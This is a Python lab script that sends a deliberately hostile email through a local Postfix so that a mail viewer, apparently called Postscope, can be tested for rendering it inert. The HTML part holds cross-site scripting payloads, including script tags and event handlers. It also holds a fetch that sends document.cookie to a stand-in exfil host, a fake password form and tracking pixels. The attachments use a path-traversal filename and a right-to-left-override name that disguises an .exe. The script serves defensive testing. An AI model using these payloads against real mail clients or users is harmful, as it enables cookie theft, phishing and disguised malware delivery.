#!/usr/bin/env python3
"""A hostile mail through the lab's Postfix: HTML that would run script, submit
a form and load remote images and CSS, headers and attachment names that carry
markup and control characters. Postscope must show all of it as inert text.

  python3 scripts/lab/hostile.py                       # send it (the lab must be running)
  python3 scripts/lab/hostile.py --record FILE.pcap    # send it while tcpdump records port 25

The lab runs with `scripts/lab/record --serve` (or inside a full `scripts/lab/record`
run, which records this lesson as smtp-hostile-html.pcap). Sent with Python's
smtplib, unmodified; the message is written out byte for byte here so every
trap is exactly where the lesson says.
"""
import base64
import os
import signal
import smtplib
import subprocess
import sys
import time
from email.utils import formatdate, make_msgid

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import labmail as L  # noqa: E402

SUBJECT = "Your invoice <script>alert('subject')</script> \x1b[31mOVERDUE\x1b[0m"
# RFC 2047 Q encoding of SUBJECT: markup and an ANSI escape sequence once decoded.
SUBJECT_RAW = ("=?UTF-8?Q?Your_invoice_=3Cscript=3Ealert=28=27subject=27=29=3C/script=3E_"
               "=1B=5B31mOVERDUE=1B=5B0m?=")
TRAVERSAL_NAME = "../../etc/passwd<script>.txt"
RLO_NAME = "invoice\u202egnp.exe"          # shows as "invoiceexe.png" where bidi runs
MARKER_ID = "pwned-by-mail"                   # what the script would add to the page

HTML = f"""<!DOCTYPE html>
<html><head>
<meta http-equiv="refresh" content="0;url=http://redirect.invalid/landing">
<link rel="stylesheet" href="http://styles.invalid/remote.css">
<style>@import url("http://styles.invalid/import.css");
body {{ background: url("http://tracker.invalid/bg.png"); }}</style>
<script>
  parent.document.title = "PWNED by mail";
  var d = parent.document.createElement("div");
  d.id = "{MARKER_ID}";
  parent.document.body.appendChild(d);
  document.title = "PWNED";
  fetch("http://exfil.invalid/?c=" + document.cookie);
</script>
</head>
<body onload="parent.document.title='PWNED by onload'">
<h1>Invoice overdue</h1>
<p>Dear customer, your invoice is overdue.</p>
<img src="http://tracker.invalid/pixel.gif?to=bob" alt="" width="1" height="1">
<img src="x" onerror="parent.document.title='PWNED by onerror'">
<svg onload="parent.document.title='PWNED by svg'"></svg>
<form action="http://collector.invalid/steal" method="post">
  <p>Log in to pay: <input name="password" type="password" autofocus onfocus="parent.document.title='PWNED by onfocus'">
  <button type="submit">Pay now</button></p>
</form>
<iframe src="http://frame.invalid/"></iframe>
<a href="javascript:parent.document.title='PWNED by link'">Open the invoice</a>
</body></html>
"""

TEXT = ("Dear customer,\n\nyour invoice is overdue. Open the HTML version to pay.\n\n"
        "(This lab mail is hostile on purpose: Postscope must show it without running it.)\n")


def qp(text):
    import quopri
    return quopri.encodestring(text.encode("utf-8")).decode("ascii")


def message():
    b = "=_hostile_outer"
    a = "=_hostile_alt"
    lines = [
        'From: "<img src=x onerror=alert(\'from\')>" <mallory@lab.example>',
        f"To: {L.BOB[0]}",
        f"Subject: {SUBJECT_RAW}",
        f"Date: {formatdate(localtime=False)}",
        f"Message-ID: {make_msgid(domain='lab.example')}",
        "X-Note: <iframe src=javascript:alert('header')></iframe>",
        "MIME-Version: 1.0",
        f'Content-Type: multipart/mixed; boundary="{b}"',
        "",
        "This is a multi-part message in MIME format.",
        "",
        f"--{b}",
        f'Content-Type: multipart/alternative; boundary="{a}"',
        "",
        f"--{a}",
        "Content-Type: text/plain; charset=us-ascii",
        "Content-Transfer-Encoding: 7bit",
        "",
        TEXT.rstrip("\n"),
        f"--{a}",
        "Content-Type: text/html; charset=utf-8",
        "Content-Transfer-Encoding: quoted-printable",
        "",
        qp(HTML).rstrip("\n"),
        f"--{a}--",
        "",
        f"--{b}",
        f'Content-Type: text/plain; charset=us-ascii; name="{TRAVERSAL_NAME}"',
        f'Content-Disposition: attachment; filename="{TRAVERSAL_NAME}"',
        "Content-Transfer-Encoding: 7bit",
        "",
        "root:x:0:0:not really:/root:/bin/sh",
        f"--{b}",
        "Content-Type: application/octet-stream",
        "Content-Disposition: attachment; filename*=UTF-8''invoice%E2%80%AEgnp.exe",
        "Content-Transfer-Encoding: base64",
        "",
        base64.b64encode(b"MZ this is not a program, only a lab file\n").decode("ascii"),
        f"--{b}--",
        "",
    ]
    wire = "\r\n".join(lines).replace("\r\n", "\n").replace("\n", "\r\n")
    return wire.encode("utf-8")


def send():
    with smtplib.SMTP(L.HOST, 25, local_hostname=L.EHLO_NAME, timeout=30) as s:
        if os.environ.get("LAB_DEBUG"):
            s.set_debuglevel(1)
        s.ehlo()
        s.sendmail("mallory@lab.example", [L.BOB[0]], message())


def record(path):
    """tcpdump on loopback, port 25, around one send; stopped by its PID."""
    err = path + ".tcpdump.err"
    with open(err, "w") as fh:
        cap = subprocess.Popen(["tcpdump", "-i", "lo", "-s", "0", "-U", "-n", "-w", path, "tcp port 25"],
                               stdout=subprocess.DEVNULL, stderr=fh)
    try:
        for _ in range(100):
            with open(err) as fh:
                if "listening on" in fh.read():
                    break
            if cap.poll() is not None:
                sys.exit(f"tcpdump did not start: {open(err).read()}")
            time.sleep(0.1)
        time.sleep(0.5)
        send()
        time.sleep(1)  # the FIN/ACK teardown belongs in the capture
    finally:
        cap.send_signal(signal.SIGINT)
        cap.wait(timeout=10)
        os.remove(err)


if __name__ == "__main__":
    if len(sys.argv) == 3 and sys.argv[1] == "--record":
        record(sys.argv[2])
    elif len(sys.argv) == 1:
        send()
    else:
        sys.exit(__doc__)
